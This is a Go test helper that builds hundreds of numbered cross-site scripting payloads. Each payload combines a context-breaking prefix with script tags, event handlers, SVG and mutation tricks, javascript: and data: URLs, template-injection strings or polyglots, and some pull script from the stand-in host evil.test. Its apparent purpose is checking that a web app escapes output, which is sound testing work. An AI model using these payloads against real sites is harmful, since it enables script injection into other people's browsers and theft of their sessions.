package web_test

import (
	"fmt"
	"slices"
	"strings"
)

// payloads are n texts that become code or markup wherever we forget to escape for the context.
// Each calls `pwned(number)` if it runs, and has its own number, so that no two are the same.
func payloads(n int) []string {
	// What ends the context that a text is in.
	ends := []string{
		"", `"`, `'`, "`", `">`, `'>`, "-->", "]]>", "*/", "\\\"", `\u0022>`, `</script>`, `</title>`, `</textarea>`, `</style>`, `</template>`, `</noscript>`, `</svg>`, `</select></option>`, `</pre></code>`,
		`"]}`, `"}]}}</script>`, `';`, "\";", "\u2028", "\n", "\r\n\r\n", "&quot;>", "&#39;>", "%22%3E", `{{"}}`, "}}",
	}
	// What runs there.
	runs := []string{
		// elements that run by themselves
		`<script>pwned(#)</script>`, `<script src=//evil.test/#></script>`, `<SCRIPT SRC=data:text/javascript,pwned(#)></SCRIPT>`, `<scr<script>ipt>pwned(#)</scr</script>ipt>`,
		`<script type="application/json" id=#>{}</script>`, `<script type=module>pwned(#)</script>`, `<svg><script href=data:,pwned(#) />`, `<!--<script>pwned(#)//-->`,
		`<img src=x onerror=pwned(#)>`, `<img src=x onerror="pwned(#)" `, `<IMG """><SCRIPT>pwned(#)</SCRIPT>">`, `<image src=x onerror=pwned(#)>`, `<img srcset=/evil-# >`, `<img src=/evil-#>`,
		`<svg onload=pwned(#)>`, `<svg/onload=pwned(#)//`, `<svg><animate onbegin=pwned(#) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:pwned(#)><a><text>x`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned(#)</script></svg>#x">`, `<svg><foreignObject><iframe onload=pwned(#)>`,
		`<body onload=pwned(#)>`, `<body onpageshow=pwned(#)>`, `<iframe src=javascript:pwned(#)>`, `<iframe srcdoc="<script>parent.pwned(#)</script>">`, `<iframe srcdoc="&lt;img src=x onerror=parent.pwned(#)&gt;">`,
		`<object data=javascript:pwned(#)>`, `<object data="data:text/html,<script>pwned(#)</script>">`, `<embed src=javascript:pwned(#)>`, `<applet code=#>`,
		`<video><source onerror=pwned(#)>`, `<video src=x onerror=pwned(#)>`, `<audio src=x onerror=pwned(#)>`, `<input autofocus onfocus=pwned(#)>`, `<select autofocus onfocus=pwned(#)>`,
		`<textarea autofocus onfocus=pwned(#)>`, `<details open ontoggle=pwned(#)>`, `<marquee onstart=pwned(#)>`, `<dialog open oncancel=pwned(#)>`, `<x contenteditable autofocus onfocus=pwned(#)>`,
		`<style onload=pwned(#)></style>`, `<style>@import '//evil.test/#';</style>`, `<style>*{background:url(/evil-#)}</style>`, `<link rel=stylesheet href=/evil-#.css>`, `<link rel=import href=/evil-#>`,
		`<link rel=prefetch href=/evil-#>`, `<meta http-equiv=refresh content="0;url=/evil-#">`, `<meta http-equiv=Content-Security-Policy content="script-src *">#`, `<base href=//evil.test/#/>`,
		`<form action=/evil-#><button id=go>x</button>`, `<button formaction=javascript:pwned(#)>x`, `<isindex action=javascript:pwned(#)>`, `<a href=javascript:pwned(#) autofocus>x`, `<a href="java&#9;script:pwned(#)">x`,
		`<template shadowrootmode=open><script>pwned(#)</script></template>`, `<div is=x-# onclick=pwned(#)>`, `<plaintext>#`, `<xmp><img src=x onerror=pwned(#)></xmp>`, `<noscript><p title="</noscript><img src=x onerror=pwned(#)>">`,
		`<button popovertarget=x onbeforetoggle=pwned(#)>`, `<portal src=javascript:pwned(#)>`, `<frameset onload=pwned(#)>`, `<table background=javascript:pwned(#)>`, `<p style="background:url(/evil-#)">`, `<div style="x:expression(pwned(#))">`,
		// markup that changes when it is read twice
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(#)&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=pwned(#)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(#)>`, `<listing>&lt;img src=x onerror=pwned(#)&gt;</listing>`, `<math><annotation-xml encoding=text/html><script>pwned(#)</script>`,
		// attributes, for where a text is in one
		` onmouseover=pwned(#) x=`, `" onfocus="pwned(#)" autofocus x="`, `' onpointerenter='pwned(#)' style='position:fixed;inset:0' x='`, "` onload=`pwned(#)` x=`", `" style="animation:x" onanimationstart="pwned(#)`,
		`" formaction="javascript:pwned(#)`, `" popover id="x#`, `" href="javascript:pwned(#)`, `" data-chart="x" data-#="`, `" http-equiv="refresh" content="0;/evil-#`,
		// addresses
		`javascript:pwned(#)`, `JaVaScRiPt:pwned(#)`, "java\tscript:pwned(#)", "java\nscript:pwned(#)", " \x01javascript:pwned(#)", `javascript://%0apwned(#)`, `&#106;avascript:pwned(#)`, `javascript&colon;pwned(#)`,
		`data:text/html,<script>pwned(#)</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#`, `vbscript:pwned(#)`, `blob:pwned(#)`, `//evil.test/#`, `/\evil.test/#`, `https://evil.test@x/#`, `https:evil-#`, `filesystem:#`, `view-source:#`,
		// JSON within a script, and what it becomes
		`</script><script>pwned(#)</script>`, `<!--<script>#`, `\u003c/script\u003e\u003cscript\u003epwned(#)`, `\x3cscript\x3epwned(#)\x3c/script\x3e`, `"};pwned(#);//`, `"-pwned(#)-"`, `'-pwned(#)-'`, `\"-pwned(#)//`, "${pwned(#)}", "`-pwned(#)-`",
		"\u2028pwned(#)//", "\u2029pwned(#)//", `]]>pwned(#)<![CDATA[`, `{"__proto__":{"pwned":#}}`, `__proto__[x#]`, `constructor.prototype.x#`, `);pwned(#)//`, `*/pwned(#)/*`, `%3Cscript%3Epwned(#)%3C/script%3E`, `+ADw-script+AD4-pwned(#)+ADw-/script+AD4-`,
		`&lt;script&gt;pwned(#)&lt;/script&gt;`, `&#60;img src=x onerror=pwned(#)&#62;`, `＜script＞pwned(#)＜/script＞`, "<\x00script>pwned(#)</script>", "<scr\u00adipt>pwned(#)</scr\u00adipt>", "\ufeff<script>pwned(#)</script>", "%c0%bcscript%c0%bepwned(#)",
		// templates of every house
		`{{constructor.constructor('pwned(#)')()}}`, `{{$on.constructor('pwned(#)')()}}`, `{{html "<script>pwned(#)</script>"}}`, `{{.}}{{#}}`, `{%raw%}pwned(#){%endraw%}`, `<%= pwned(#) %>`, `#{pwned(#)}`, `@{pwned(#)}`, `[[${pwned(#)}]]`, `*{T(x).pwned(#)}`, `{@html pwned(#)}`, `<!--#exec cmd=#-->`,
		// what charts make of texts
		`function(){pwned(#)}`, `__f__pwned(#)__f__`, `__FUNC__pwned(#)__FUNC__`, `{a|#}{b}{c}`, `{@[#]}`, `{marker#}<img src=x onerror=pwned(#)>`, `{value} {rich|#}`, `image:///evil-#`, `path://M0 0#`, `() => pwned(#)`, `new Function('pwned(#)')()`,
		// several at once
		"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned(#) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned(#)//>\\x3e",
		`'">><marquee><img src=x onerror=pwned(#)></marquee>"></plaintext\></|\><plaintext/onmouseover=pwned(#)><script>pwned(#)</script>@gmail.com<isindex formaction=javascript:pwned(#) type=submit>'-->"></script>`,
		"\" onclick=pwned(#)//<button ' onclick=pwned(#)//> */ pwned(#)//", `<svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned(#)//'>`,
	}
	var all []string
	for end := range ends {
		for i, run := range runs {
			// Each way to run is on its own and behind each end; the order has each end early.
			all = append(all, ends[(end+i*7)%len(ends)]+run)
		}
	}
	all = all[:n]
	for i := range all {
		all[i] = strings.ReplaceAll(strings.ReplaceAll(all[i], "\x00", "\ufffd"), "#", fmt.Sprint(1000+i))
	}
	if slices.Sort(all); len(slices.Compact(slices.Clone(all))) != n {
		panic("two payloads are alike")
	}
	return all
}
